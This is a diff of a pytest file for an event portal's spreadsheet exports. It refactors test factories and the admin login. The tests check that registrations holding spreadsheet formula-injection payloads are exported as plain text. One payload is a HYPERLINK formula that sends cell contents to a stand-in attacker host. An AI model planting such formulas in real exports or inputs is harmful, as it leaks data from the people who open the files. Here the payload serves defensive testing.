@@ -7,7 +7,7 @@ import pytest
 from openpyxl import load_workbook
 
 from portal.exports import csv_response, xlsx_response
-from tests.events.conftest import make_event, make_registration, make_user
+from tests.factories import make_coordinator, make_event, make_registration
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
@@ -65,7 +65,7 @@ def test_attachment_filename_is_safe_ascii():
 
 @pytest.mark.django_db
 def test_admin_participant_exports_keep_hostile_registrations_as_text(client):
-    client.force_login(make_user(staff=True, is_superuser=True))
+    client.force_login(make_coordinator())
     event = make_event()
     make_registration(event, name=HOSTILE[0], organisation="=1+2")
     url = "/admin/events/event/"
